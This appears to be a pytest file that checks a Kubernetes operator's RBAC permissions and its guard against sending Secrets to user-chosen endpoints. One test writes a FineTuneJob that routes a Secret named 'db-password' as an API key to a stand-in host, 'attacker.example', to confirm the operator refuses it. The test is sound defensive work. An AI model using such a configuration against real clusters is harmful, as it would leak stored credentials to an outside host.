"""The operator's ClusterRole on a hardened cluster (review OP-1, OP-2).

Children carry a controller reference with ``blockOwnerDeletion: true``. The
OwnerReferencesPermissionEnforcement admission plugin (OpenShift, hardened clusters and the
local cluster) admits that only from a client that may ``update`` the owner's ``finalizers``
subresource (kubernetes v1.36 plugin/pkg/admission/gc/gc_admission.go); without the rule every
child create is refused.
"""

from __future__ import annotations

import json
import subprocess
from typing import Any

import pytest
import yaml

from operator_helpers import ROOT, ftj_manifest, refused_calls
from test_serve_cluster import ms_manifest

OPERATOR_YAML = ROOT / "operator" / "deploy" / "operator.yaml"


def _role() -> dict[str, Any]:
    return next(d for d in yaml.safe_load_all(OPERATOR_YAML.read_text()) if d["kind"] == "ClusterRole")


def _verbs(role: dict[str, Any], group: str, resource: str) -> set[str]:
    return {v for r in role["rules"] if group in r["apiGroups"] and resource in r["resources"] for v in r["verbs"]}


@pytest.mark.parametrize("resource", ["finetunejobs/finalizers", "modelserves/finalizers"])
def test_cluster_role_may_set_finalizers_of_both_kinds(resource: str) -> None:
    assert "update" in _verbs(_role(), "tuneforge.dev", resource)


def test_cluster_role_reads_secrets_by_name_only() -> None:
    """The opt-in annotation of a named Secret is read (get); Secrets are never listed or
    watched, so the operator never holds a namespace's Secrets in memory."""
    role = _role()
    assert _verbs(role, "", "secrets") == {"get"}
    assert "get" not in _verbs(role, "", "pods")  # trimmed: pods are only listed and watched


def test_leader_election_rbac_is_one_namespaced_role_for_one_lease() -> None:
    """Leases only in the operator's own namespace (a Role, nothing cluster-wide): create (a name
    cannot limit it), and get/update of the one Lease the operator uses."""
    from tuneforge.settings import Settings

    docs = list(yaml.safe_load_all(OPERATOR_YAML.read_text()))
    by_kind = {d["kind"]: d for d in docs}
    role, binding, deploy, sa = by_kind["Role"], by_kind["RoleBinding"], by_kind["Deployment"], by_kind["ServiceAccount"]
    assert _verbs(_role(), "coordination.k8s.io", "leases") == set()
    assert role["metadata"]["namespace"] == deploy["metadata"]["namespace"] == sa["metadata"]["namespace"]
    rules = sorted((sorted(r["verbs"]), r.get("resourceNames")) for r in role["rules"])
    assert all(r["apiGroups"] == ["coordination.k8s.io"] and r["resources"] == ["leases"] for r in role["rules"])
    assert rules == [(["create"], None), (["get", "update"], [Settings().leader_election_lease])]
    assert binding["roleRef"]["name"] == role["metadata"]["name"]
    assert binding["subjects"] == [{"kind": "ServiceAccount", "name": sa["metadata"]["name"],
                                    "namespace": sa["metadata"]["namespace"]}]
    (container,) = deploy["spec"]["template"]["spec"]["containers"]
    assert {"name": "TUNEFORGE_LEADER_ELECT", "value": "true"} in container["env"]
    assert deploy["spec"]["replicas"] == 2 and container["readinessProbe"]["httpGet"]["path"] == "/healthz"


# --- cluster tier -------------------------------------------------------------------------------

def _as(cluster: Any, namespace: str, sa: str, obj: dict[str, Any]) -> subprocess.CompletedProcess[str]:
    return cluster.kubectl("create", "-n", namespace, f"--as=system:serviceaccount:{namespace}:{sa}", "-f", "-",
                           input=json.dumps(obj), check=False)


@pytest.mark.parametrize(("kind", "plural"), [("FineTuneJob", "finetunejobs"), ("ModelServe", "modelserves")])
def test_blocking_owner_reference_needs_finalizers_update(cluster: Any, namespace: str, crds: None,
                                                          kind: str, plural: str) -> None:
    """A ServiceAccount bound to the operator's ClusterRole creates a child with
    blockOwnerDeletion; one bound to the same role less the finalizers rule is refused by the
    admission plugin (which also proves the plugin is on in the local cluster)."""
    owner = ftj_manifest("owner") if kind == "FineTuneJob" else ms_manifest("owner", 1)
    cluster.apply(owner, namespace)
    uid = cluster.get(plural, "owner", namespace)["metadata"]["uid"]
    role = _role()
    without = {**role, "rules": [r for r in role["rules"] if not any(x.endswith("/finalizers") for x in r["resources"])]}
    assert without["rules"] != role["rules"]
    roles = {"operator": role, "nofinalizers": without}
    try:
        for sa, r in roles.items():
            name = f"t-{namespace}-{sa}"[:63]
            cluster.kubectl("create", "serviceaccount", sa, "-n", namespace)
            cluster.apply([{**r, "metadata": {"name": name}},
                           {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": {"name": sa},
                            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": name},
                            "subjects": [{"kind": "ServiceAccount", "name": sa, "namespace": namespace}]}], namespace)

        def child(name: str) -> dict[str, Any]:
            return {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name, "ownerReferences": [
                {"apiVersion": "tuneforge.dev/v1alpha1", "kind": kind, "name": "owner", "uid": uid,
                 "controller": True, "blockOwnerDeletion": True}]}, "data": {}}

        refused = _as(cluster, namespace, "nofinalizers", child("refused"))
        assert refused.returncode != 0, "created without finalizers update: OwnerReferencesPermissionEnforcement is off"
        assert "cannot set blockOwnerDeletion" in refused.stderr, refused.stderr
        allowed = _as(cluster, namespace, "operator", child("allowed"))
        assert allowed.returncode == 0, allowed.stderr
    finally:
        for sa in roles:
            cluster.kubectl("delete", "clusterrole", f"t-{namespace}-{sa}"[:63], check=False)


def test_secret_not_opted_in_is_never_sent_to_a_user_chosen_endpoint(cluster: Any, namespace: str, run_operator: Any,
                                                                     standin_image: str, tmp_path: Any) -> None:
    """Review OP-2 on the apiserver, with exactly the operator's ClusterRole: a FineTuneJob that
    sends a Secret to its own openai url waits with SecretNotAllowed (condition and Event) and
    creates no Job; once the Secret's owner opts it in for that host, the run starts."""
    from operator_helpers import least_privilege_kubeconfig, pvc_manifest
    from test_operator_cluster import _events, _ftj
    from tuneforge_localcluster.testing import wait_for

    with least_privilege_kubeconfig(cluster, namespace, tmp_path) as kubeconfig:
        op = run_operator(TUNEFORGE_TRAINER_IMAGE=standin_image, KUBECONFIG_OVERRIDE=str(kubeconfig),
                          TUNEFORGE_RETRY_DELAY="1", TUNEFORGE_RETRY_MAX_DELAY="2")
        cluster.apply([pvc_manifest(), {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "db-password"},
                                        "stringData": {"password": "hunter2"}}], namespace)
        cluster.apply(ftj_manifest("deputy", evaluation={"baselines": [
            {"type": "openai", "url": "https://attacker.example/v1", "model": "m",
             "apiKeySecretRef": {"name": "db-password", "key": "password"}}]}), namespace)
        wait_for("SecretNotAllowed", lambda: (_ftj(cluster, namespace, "deputy").get("status") or {}).get("reason")
                 == "SecretNotAllowed", 60, 0.5, op.log)
        st = _ftj(cluster, namespace, "deputy")["status"]
        found = {c["type"]: c for c in st["conditions"]}["DependenciesFound"]
        assert found["status"] == "False" and "'db-password'" in found["message"] and "attacker.example" in found["message"]
        assert st["message"].startswith("spec.evaluation.baselines[openai].apiKeySecretRef: Secret 'db-password'"), st
        wait_for("the Event", lambda: "Pending" in _events(cluster, namespace, "deputy"), 30, 1)
        assert "SecretNotAllowed" in cluster.describe("finetunejob", "deputy", namespace)
        assert cluster.list("jobs", namespace) == [] and cluster.list("pods", namespace) == []
        cluster.kubectl("annotate", "secret", "db-password", "-n", namespace,
                        "tuneforge.dev/allowed-endpoints=attacker.example")
        wait_for("validation Job once opted in", lambda: cluster.list("jobs", namespace), 60, 0.5, op.log)
        assert refused_calls(op.log()) == []
